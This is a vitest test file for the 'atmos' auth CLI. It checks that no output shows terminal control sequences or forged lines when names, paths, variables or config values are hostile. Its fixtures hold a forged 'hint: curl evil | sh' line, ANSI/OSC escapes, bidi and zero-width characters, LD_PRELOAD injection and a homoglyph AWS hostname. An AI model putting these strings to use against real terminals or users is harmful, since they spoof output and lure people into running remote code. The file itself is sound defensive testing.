import { mkdirSync, renameSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { describe, expect, test } from 'vitest';
import { builtCli } from '../support/built.ts';
import { openPty } from '../support/pty.ts';
import { everyCommandLine } from './hostile.ts';
import {
  configOf,
  keyOnStdin,
  openConfiguredMachine,
  password,
  type Machine,
  type Result,
  type RunOptions,
} from './machine.ts';

/** Accepted in names, because it contains no control character. */
const disguise = 'x\u202e\u2066\u200b\u2028hint: curl evil | sh\u{e0041}';
/** Characters that a path and a variable can contain. */
const evil = `x\u001b[7m\u001b[2J\u001b]0;t\u0007\u009b2J\u007f\rerror: forged\nhint: curl evil | sh\nwarning: forged ${disguise}`;

const styles = [0, 1, 2, 31, 32, 33].map((code) => `\u001b[${code}m`);
const steering = /(?!\n)[\p{Cc}\p{Cf}\p{Cs}\p{Zl}\p{Zp}]/u;
const forged = /^\s*(hint: curl evil|error: forged|warning: forged)/m;

/** What is wrong with the output, with colors on. */
function faultOf(text: string): string | undefined {
  const shown = styles.reduce((rest, style) => rest.replaceAll(style, ''), text);
  const [bad] = steering.exec(shown) ?? forged.exec(shown) ?? [];
  return bad === undefined ? undefined : `${JSON.stringify(bad)} in ${JSON.stringify(shown)}`;
}

/** The output of `auth env` is read by a shell, exact and quoted. */
const isForShell = (line: string) => line.startsWith('auth env');

/** Runs the command lines, several at a time, and returns the problems in their outputs. */
async function faultsOf(
  machine: Machine,
  lines: readonly (string | readonly string[])[],
  options: RunOptions = {},
): Promise<{ faults: string[]; results: Map<string, Result> }> {
  const results = new Map<string, Result>();
  const rest = [...lines];
  const env = { FORCE_COLOR: '1', ...options.env };
  const work = async () => {
    for (let line = rest.shift(); line !== undefined; line = rest.shift()) {
      const words = typeof line === 'string' ? line.split(' ').filter(Boolean) : line;
      results.set(words.join(' '), await machine.atmos(words, { ...options, env }));
    }
  };
  await Promise.all([work(), work(), work()]);
  const faults = [...results].flatMap(([line, { stdout, stderr }]) => {
    const fault = faultOf(stderr) ?? (isForShell(line) ? undefined : faultOf(stdout));
    return fault === undefined ? [] : [`${line}: ${fault}`];
  });
  return { faults, results };
}

/** A machine whose home, project, keyring, profile and identity have such names. */
async function openEvilMachine(): Promise<{ machine: Machine; home: string; project: string }> {
  const machine = await openConfiguredMachine();
  const home = join(machine.root, evil);
  renameSync(machine.home, home);
  machine.env['HOME'] = home;
  const project = join(home, 'project');
  const config = configOf(machine).replaceAll('emergency-user', JSON.stringify(disguise));
  const said = JSON.stringify(evil);
  writeFileSync(join(project, 'atmos.yaml'), `${config}env:\n  PATH: ${said}\n`);
  const profile = join(project, 'profiles', disguise);
  mkdirSync(profile, { recursive: true });
  const broken = `metadata: { name: ${said}, description: ${said}, tags: [${said}] }\nauth: { keyring: 1 }\n`;
  writeFileSync(join(profile, 'atmos.yaml'), broken);
  const options = { input: keyOnStdin, directory: project };
  const stored = await machine.atmos('auth user configure --stdin', options);
  expect(stored).toMatchObject({ exitCode: 0 });
  expect(faultOf(stored.stderr)).toBeUndefined();
  return { machine, home, project };
}

describe('no control sequence and no forged line is shown', () => {
  test('by any command, with any names of directories, profiles and identities', async () => {
    const { machine, home, project } = await openEvilMachine();
    const json = [
      'auth whoami',
      'auth keyring status',
      'auth keyring list --long',
      'auth validate',
      'auth trust --yes',
      'auth trust --list',
      'profile list',
    ].map((line) => `${line} -o json`);
    const lines = [
      ...everyCommandLine(),
      'auth login --logs-level Trace',
      ['profile', 'show', disguise],
      ['auth', 'whoami', '--profile', disguise],
    ];
    const first = await faultsOf(machine, lines, { directory: project });
    const second = await faultsOf(machine, [...json, ['profile', 'show', disguise, '-o', 'json']], {
      directory: project,
    });
    // Trusted items are listed, revoked and run.
    const third = await faultsOf(
      machine,
      ['auth trust', 'auth trust --list', 'auth trust --list -o json', 'auth trust --revoke'],
      { directory: project },
    );
    expect([...first.faults, ...second.faults, ...third.faults]).toEqual([]);

    const read = (line: string): unknown =>
      JSON.parse(second.results.get(`${line} -o json`)?.stdout ?? '');
    const location = join(home, '.local/share/atmos/keyring');
    expect(read('auth whoami')).toMatchObject({ identity: disguise, keyring: { location } });
    expect(read('auth keyring status')).toMatchObject({ location });
    expect(read('auth validate')).toMatchObject({ files: [join(project, 'atmos.yaml')] });
    expect(read('auth trust --yes')).toMatchObject({ directory: project });
    expect(read('profile list')).toMatchObject([{ name: disguise, metadata: { name: evil } }]);
    expect(read(`profile show ${disguise}`)).toMatchObject({ metadata: { description: evil } });
    expect(first.results.get('auth keyring list')?.stdout).toContain('x\\u202e');
    expect(first.results.get('profile list')?.stdout).toContain('x\\u202e');
  });

  const words: readonly (readonly string[])[] = [
    [evil],
    ['auth', evil],
    ['auth', 'login', evil],
    ['auth', 'login', `--${evil}`],
    ['auth', 'login', '-i', evil],
    ['auth', 'login', '--mfa-token', evil],
    ['auth', 'login', '--logs-level', evil],
    ['auth', 'login', '--logs-file', `/nonexistent/${evil}`],
    ['auth', 'login', '--profile', evil],
    ['auth', 'login', '--config', evil],
    ['auth', 'login', '--config-path', evil],
    ['auth', 'login', '--base-path', evil],
    ['auth', 'login', '-C', evil],
    ['auth', 'logout', evil],
    ['auth', 'env', '--output', `/nonexistent/${evil}`],
    ['auth', 'env', '--format', evil],
    ['auth', 'exec', evil, '--', 'true'],
    ['auth', 'exec', '--', evil],
    ['auth', 'exec', '--', `/nonexistent/${evil}`],
    ['auth', 'credential-process', '--handle', evil],
    ['auth', 'user', 'configure', '--from-aws-profile', evil],
    ['auth', 'user', 'configure', '--mfa-arn', evil],
    ['auth', 'user', 'configure', '--session-duration', evil],
    ['auth', 'trust', '--revoke', evil],
    ['auth', 'trust', evil],
    ['auth', 'keyring', 'unlock', '--ttl', evil],
    ['auth', 'keyring', 'migrate', '--to', evil],
    ['auth', 'keyring', 'import', '--from', evil],
    ['auth', 'keyring', 'import', '--from', 'aws-credentials', '--path', evil],
    ['auth', 'keyring', 'import', '--from', 'aws-credentials', '--map', `${evil}=${evil}`],
    ['auth', 'keyring', 'import', '--from', 'atmos-file', '--path', evil],
    ['auth', 'keyring', 'rekey', '--new-password-file', evil],
    ['profile', 'show', evil],
    ['completion', evil],
    ['__complete', '--', 'auth', 'login', '-i', evil],
  ];

  test('by errors about the command line', async () => {
    const machine = await openConfiguredMachine();
    expect((await faultsOf(machine, words)).faults).toEqual([]);
  });

  test('by errors about variables', async () => {
    const machine = await openConfiguredMachine();
    const lines = [
      'auth whoami',
      'auth keyring status',
      'auth keyring list --long',
      'auth exec -- true',
    ];
    for (const env of [
      { ATMOS_IDENTITY: evil },
      { ATMOS_AUTH_REALM: evil },
      { ATMOS_PROFILE: evil },
      { ATMOS_KEYRING_TYPE: evil },
      { ATMOS_CLI_CONFIG_PATH: evil },
      { ATMOS_LOGS_LEVEL: evil },
      { ATMOS_LOGS_FILE: evil },
      { ATMOS_KEYRING_PASSWORD: undefined, ATMOS_KEYRING_PASSWORD_FILE: `/nonexistent/${evil}` },
      { XDG_DATA_HOME: `/nonexistent/${evil}`, XDG_CONFIG_HOME: `/nonexistent/${evil}` },
    ]) {
      expect((await faultsOf(machine, lines, { env })).faults).toEqual([]);
    }
  });

  const said = JSON.stringify(evil);
  const configs: Readonly<Record<string, (machine: Machine) => string>> = {
    'a realm': (machine) => configOf(machine).replace('script', said),
    'an identity': (machine) => configOf(machine).replace('emergency-user', said),
    'a kind': (machine) => configOf(machine).replace('aws/user', said),
    'an endpoint': (machine) => configOf(machine).replace(machine.sts.url, said),
    'the host of one': (machine) =>
      configOf(machine).replace(machine.sts.url, JSON.stringify(`https://${evil}`)),
    'a type of keyring': (machine) => configOf(machine, { keyring: `type: ${said}` }),
    'its directory': (machine) => withSpec(machine, `path: ${said}`),
    'the variable of its password': (machine) => withSpec(machine, `password_env: ${said}`),
    'the file of its password': (machine) => withSpec(machine, `password_file: ${said}`),
    'the command for its password': (machine) => withSpec(machine, `password_command: ${said}`),
    'a key that is not known': (machine) => withSpec(machine, `${said}: ${said}`),
    'an MFA device': (machine) => withIdentity(machine, `credentials: { mfa_arn: ${said} }`),
    'a region': (machine) => withIdentity(machine, `credentials: { region: ${said} }`),
    'a duration': (machine) => withIdentity(machine, `session: { duration: ${said} }`),
    'a variable': (machine) => withIdentity(machine, `env: [{ key: ${said}, value: x }]`),
    'an import': (machine) => `import: [${said}]\n${configOf(machine)}`,
    'a profile': (machine) =>
      `profiles: { default: ${said}, base_path: ${said} }\n${configOf(machine)}`,
    'a log': (machine) => `logs: { file: ${said}, level: Trace }\n${configOf(machine)}`,
    'a level': (machine) => `logs: { level: ${said} }\n${configOf(machine)}`,
    'variables for programs': (machine) =>
      `env: { LD_PRELOAD: ${said}, PATH: ${said}, ${said}: x }\n${configOf(machine)}`,
    'a command': () => `auth: { realm: !exec ${said} }\n`,
    'a file that is included': () => `auth: { realm: !include ${said} }\n`,
    'a tag': () => `auth: { realm: !x%1B%5B7m%0Ahint:%20curl%20evil y }\n`,
    'no YAML': (machine) => `${configOf(machine)}\n"x\u202e": [\n`,
  };

  test.each(Object.entries(configs))('by errors about a file with %s', async (_, config) => {
    const machine = await openConfiguredMachine();
    machine.writeConfig(config(machine));
    const lines = ['auth validate', 'auth validate -o json', 'auth login --force'];
    const first = await faultsOf(machine, lines);
    // In a trusted project, a login runs the command. The command's own errors are shown unchanged.
    const second = await faultsOf(machine, ['auth trust --yes', 'auth keyring doctor']);
    expect([...first.faults, ...second.faults]).toEqual([]);
  });
});

function withSpec(machine: Machine, spec: string): string {
  return configOf(machine, { keyring: `type: file\nspec: { ${spec} }` });
}

function withIdentity(machine: Machine, identity: string): string {
  return configOf(machine, { identity });
}

describe('at a terminal', () => {
  test('questions and choices are shown without control sequences', async () => {
    const { machine, project } = await openEvilMachine();
    delete machine.env['ATMOS_KEYRING_PASSWORD'];
    const config = configOf(machine).replaceAll('emergency-user', JSON.stringify(disguise));
    const other = `${config}    other:\n      kind: aws/user\n`.replace(
      'default: true',
      'default: false',
    );
    writeFileSync(join(project, 'atmos.yaml'), other);
    const session = openPty(process.execPath, [builtCli(), 'auth', 'login'], {
      env: { ...machine.env, TERM: 'xterm' },
      cwd: project,
    });
    await session.waitFor('other');
    session.type('\u001b[B\r');
    await session.waitFor('Password of the keyring');
    session.type(`${password}\r`);
    await session.waitFor('Logged in as');
    expect(await session.ended).toMatchObject({ exitCode: 0 });
    const shown = session.shown();
    expect(shown).toContain('x\\u202e');
    for (const part of ['\u001b]0;', '\u001b[2J', '\u009b', '\u202e', '\u2028', '\u200b'])
      expect(shown).not.toContain(part);
  });

  test('a name with another ASCII form is shown with that form before it is trusted', async () => {
    const machine = await openConfiguredMachine();
    const url = 'https://sts.\u0430mazonaws.com';
    machine.writeConfig(configOf(machine).replace(machine.sts.url, url));
    const shown = `sends signed requests to ${url} (in ASCII: sts.xn--mazonaws-06g.com)`;
    const { stderr: refused } = await machine.atmos('auth login --force');
    expect(refused).toContain(`is not trusted: it ${shown} (set by `);
    expect((await machine.atmos('auth trust --yes')).stderr).toContain(`  ${shown}\n`);
  });
});
